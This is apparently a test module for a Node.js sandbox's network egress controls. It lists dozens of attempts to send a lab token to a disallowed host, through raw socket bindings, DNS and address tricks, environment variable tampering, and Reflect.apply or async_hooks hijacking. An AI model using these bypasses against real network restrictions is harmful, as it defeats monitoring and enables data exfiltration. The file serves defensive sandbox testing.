/** Data sent to hosts that are not allowed. The effect: the listener there received the run's token. */
'use strict';
const { once } = require('node:events');

exports.category = 'network';

const bindings = {
  tcp: () => process.binding('tcp_wrap'),
  pipe: () => process.binding('pipe_wrap'),
  stream: () => process.binding('stream_wrap'),
};

/** Connects with a native handle, without the modules above it, and writes the token. */
function sendByHandle(handle, connect, lab) {
  return new Promise((done, failed) => {
    const request = { oncomplete: (status) => (status ? failed(new Error(`connect gave ${status}`)) : done()) };
    const code = connect(request);
    if (code) failed(new Error(`connect gave ${code}`));
  }).then(async () => {
    const socket = new (require('node:net').Socket)({ handle });
    await send(socket, lab);
  });
}

async function send(socket, lab) {
  await new Promise((done, failed) => {
    socket.on('error', failed);
    socket.write(`${lab.token}\n`, done);
  });
  socket.destroy();
}

async function connected(socket, lab, event = 'connect') {
  await once(socket, event);
  await send(socket, lab);
}

function datagram(lab, { type = 'udp4', address = lab.host, port = lab.ports.udp, connect = false } = {}) {
  const socket = require('node:dgram').createSocket(type);
  return new Promise((done, failed) => {
    socket.on('error', failed);
    const sent = (error) => (error ? failed(error) : done());
    if (connect) socket.connect(port, address, (error) => (error ? failed(error) : socket.send(lab.token, sent)));
    else socket.send(lab.token, port, address, sent);
  }).finally(() => socket.close());
}

const get = (module, url, options = {}) =>
  new Promise((done, failed) => {
    require(module)
      .get(url, { rejectUnauthorized: false, ...options }, (response) => response.resume().on('end', done))
      .on('error', failed);
  });
const net = () => require('node:net');
/** Before Node.js 22, the name of an abstract socket fills all of its space, as the listener's does. */
const abstract = (name) => `\0${parseInt(process.versions.node, 10) < 22 ? name : name.padEnd(107, '\0')}`;
const url = (lab, host = lab.host) => `http://${host}:${lab.ports.tcp}/${lab.token}`;

exports.attacks = {
  'net.connect': { run: (lab) => connected(net().connect(lab.ports.tcp, lab.host), lab) },
  'net.connect to a name': { run: (lab) => connected(net().connect(lab.ports.tcp, lab.otherName), lab) },
  'net.connect by IPv6': { run: (lab) => connected(net().connect(lab.ports.tcp, lab.host6), lab) },
  'net.connect by IPv6 with IPv4 inside': { run: (lab) => connected(net().connect(lab.ports.tcp, `::ffff:${lab.host}`), lab) },
  'https.get from another port of an allowed host': { run: (lab) => get('node:https', `https://${lab.allowedName}:${lab.ports.tls}/${lab.token}`) },
  'net.connect to an address that getaddrinfo reads as a number': {
    run: (lab) => connected(net().connect(lab.ports.tcp, `0x${lab.host.split('.').map((part) => Number(part).toString(16).padStart(2, '0')).join('')}`), lab),
  },
  'net.connect with a lookup of its own': {
    run: (lab) =>
      connected(
        net().connect({
          port: lab.ports.tcp,
          host: lab.allowedName,
          lookup: (name, options, done) => (options.all ? done(null, [{ address: lab.host, family: 4 }]) : done(null, lab.host, 4)),
        }),
        lab,
      ),
  },
  'net.connect with a host that changes': {
    run: (lab) => {
      let reads = 0;
      const options = { port: lab.ports.tcp, autoSelectFamily: false };
      Object.defineProperty(options, 'host', { enumerable: true, get: () => (reads++ ? lab.host : '127.0.0.1') });
      return connected(net().connect(options), lab);
    },
    // Node.js may read it once, as loopback.
  },
  'net.connect from an address': { run: (lab) => connected(net().connect({ port: lab.ports.tcp, host: lab.host, localAddress: '127.0.0.1' }), lab) },
  'net.connect during init': { init: true, run: (lab) => connected(net().connect(lab.ports.tcp, lab.host), lab) },
  'net.connect after the variables of allowed hosts were changed': {
    run: (lab) => {
      process.env.AWS_XRAY_DAEMON_ADDRESS = `${lab.host}:${lab.ports.tcp}`;
      process.env._AWS_XRAY_DAEMON_ADDRESS = lab.host;
      process.env.AWS_LAMBDA_RUNTIME_API = `${lab.host}:${lab.ports.tcp}`;
      return connected(net().connect(lab.ports.tcp, lab.host), lab);
    },
  },
  'tls.connect': { run: (lab) => connected(require('node:tls').connect({ port: lab.ports.tls, host: lab.host, rejectUnauthorized: false }), lab, 'secureConnect') },
  'http.get': { run: (lab) => get('node:http', url(lab)) },
  'http.get of a name': { run: (lab) => get('node:http', url(lab, lab.otherName)) },
  'http.get with a Host header that is allowed': { run: (lab) => get('node:http', url(lab), { headers: { host: lab.allowedName } }) },
  'http.get with a createConnection of its own': {
    run: (lab) => get('node:http', url(lab, lab.allowedName), { createConnection: () => net().connect(lab.ports.tcp, lab.host) }),
  },
  'http.get through a proxy that is not allowed': {
    run: (lab) => get('node:http', url(lab), { path: `http://${lab.allowedName}/${lab.token}` }),
  },
  'https.get': { run: (lab) => get('node:https', `https://${lab.host}:${lab.ports.tls}/${lab.token}`) },
  'https.get with a server name that is allowed': {
    run: (lab) => get('node:https', `https://${lab.host}:${lab.ports.tls}/${lab.token}`, { servername: lab.allowedName }),
  },
  'http2': {
    run: async (lab) => {
      const session = require('node:http2').connect(`http://${lab.host}:${lab.ports.http2}`);
      const stream = session.request({ ':path': `/${lab.token}` });
      const failed = once(session, 'error').then(([error]) => Promise.reject(error));
      await Promise.race([once(stream, 'response'), failed]);
      session.destroy();
    },
  },
  'fetch': { run: async (lab) => void (await (await fetch(url(lab), { method: 'POST', body: lab.token })).text()) },
  'fetch of an address written as a number': {
    run: async (lab) => {
      const number = lab.host.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
      await (await fetch(url(lab, String(number)))).text();
    },
  },
  'fetch after the global dispatcher was replaced': {
    run: async (lab) => {
      globalThis[Symbol.for('undici.globalDispatcher.1')] = undefined;
      await (await fetch(url(lab))).text();
    },
  },
  'WebSocket': {
    run: (lab) =>
      new Promise((done, failed) => {
        const socket = new WebSocket(`ws://${lab.host}:${lab.ports.tcp}/${lab.token}`);
        // The listener records the request, and answers in plain HTTP.
        socket.onerror = (event) => failed(event.error ?? new Error(event.message));
        socket.onopen = done;
      }),
  },
  'UDP': { run: (lab) => datagram(lab) },
  'UDP, connected': { run: (lab) => datagram(lab, { connect: true }) },
  'UDP by IPv6': { run: (lab) => datagram(lab, { type: 'udp6', address: lab.host6 }) },
  'UDP by IPv6 with IPv4 inside': { run: (lab) => datagram(lab, { type: 'udp6', address: `::ffff:${lab.host}` }) },
  'UDP, many messages at once': {
    run: async (lab) => {
      const socket = require('node:dgram').createSocket('udp4');
      const sent = await Promise.allSettled(
        Array.from({ length: 4 }, () => new Promise((done, failed) => socket.send([lab.token, 'x'], lab.ports.udp, lab.host, (error) => (error ? failed(error) : done())))),
      );
      socket.close();
      if (sent.every(({ status }) => status === 'rejected')) throw sent[0].reason;
    },
  },
  'UDP handle by its symbol': {
    run: (lab) => {
      const socket = require('node:dgram').createSocket('udp4');
      const state = socket[Object.getOwnPropertySymbols(socket).find((symbol) => String(symbol).includes('state'))];
      const { handle } = state;
      const Request = process.binding('udp_wrap').SendWrap;
      handle.bind('0.0.0.0', 0, 0);
      return new Promise((done, failed) => {
        const request = new Request();
        request.oncomplete = (error) => (error ? failed(new Error(`send gave ${error}`)) : done());
        const code = handle.send(request, [Buffer.from(lab.token)], 1, lab.ports.udp, lab.host, true);
        if (code < 0) failed(new Error(`send gave ${code}`));
        else if (code > 0) done();
      }).finally(() => socket.close());
    },
  },
  'TCP class of the binding': {
    run: (lab) => {
      const { TCP, TCPConnectWrap, constants } = bindings.tcp();
      const handle = new TCP(constants.SOCKET);
      return sendByHandle(handle, (request) => handle.connect(Object.assign(new TCPConnectWrap(), request), lab.host, lab.ports.tcp), lab);
    },
  },
  'TCP class of a socket seen by async_hooks': {
    run: async (lab) => {
      const seen = {};
      const hook = require('node:async_hooks')
        .createHook({ init: (id, type, trigger, resource) => (seen[type] ??= resource) })
        .enable();
      // An allowed connection exposes both classes.
      const allowed = net().connect(lab.witnessPort, '127.0.0.1');
      await once(allowed, 'connect');
      hook.disable();
      const handle = new seen.TCPWRAP.constructor(0);
      const Request = seen.TCPCONNECTWRAP.constructor;
      allowed.destroy();
      await sendByHandle(handle, (request) => handle.connect(Object.assign(new Request(), request), lab.host, lab.ports.tcp), lab);
    },
  },
  'connect of a handle put back by its prototype': {
    run: async (lab) => {
      const socket = new (net().Socket)();
      const server = net().createServer().listen(0, '127.0.0.1');
      await once(server, 'listening');
      const TCP = server._handle.constructor;
      const handle = new TCP(0);
      const { connect } = Object.getPrototypeOf(handle);
      server.close();
      socket._handle = handle;
      const request = Object.assign(new (bindings.tcp().TCPConnectWrap)(), {});
      await new Promise((done, failed) => {
        request.oncomplete = (status) => (status ? failed(new Error(`connect gave ${status}`)) : done());
        const code = Reflect.apply(connect, handle, [request, lab.host, lab.ports.tcp]);
        if (code) failed(new Error(`connect gave ${code}`));
      });
      await send(new (net().Socket)({ handle }), lab);
    },
  },
  'the original connect caught by Reflect.apply': {
    run: async (lab) => {
      const caught = new Set();
      const { apply } = Reflect;
      Reflect.apply = (target, self, args) => (caught.add(target), apply(target, self, args));
      const allowed = net().connect(lab.witnessPort, '127.0.0.1');
      await once(allowed, 'connect');
      allowed.destroy();
      Reflect.apply = apply;
      const handle = new (bindings.tcp().TCP)(0);
      const Request = bindings.tcp().TCPConnectWrap;
      const connect = [...caught].find(({ name }) => name === 'connect') ?? handle.connect;
      await sendByHandle(handle, (request) => apply(connect, handle, [Object.assign(new Request(), request), lab.host, lab.ports.tcp]), lab);
    },
  },
  'unix socket': { run: (lab) => connected(net().connect(lab.unixSocket), lab) },
  'abstract unix socket': { run: (lab) => connected(net().connect(abstract(lab.abstractSocket)), lab) },
  'Pipe class of the binding': {
    run: (lab) => {
      const { Pipe, PipeConnectWrap, constants } = bindings.pipe();
      const handle = new Pipe(constants.SOCKET);
      return sendByHandle(handle, (request) => handle.connect(Object.assign(new PipeConnectWrap(), request), lab.unixSocket), lab);
    },
  },
  'in a worker with neither flags nor environment': {
    run: (lab) => lab.inWorker(`lab.attack('network', 'net.connect')`, { env: {}, execArgv: [] }),
  },
  'in a vm context': {
    run: (lab) => require('node:vm').runInNewContext('send()', { send: () => connected(net().connect(lab.ports.tcp, lab.host), lab) }),
  },
  'through an async resource that outlives the invocation': {
    run: (lab) =>
      new Promise((done, failed) => {
        setTimeout(() => connected(net().connect(lab.ports.tcp, lab.host), lab).then(done, failed), 5);
      }),
  },
};
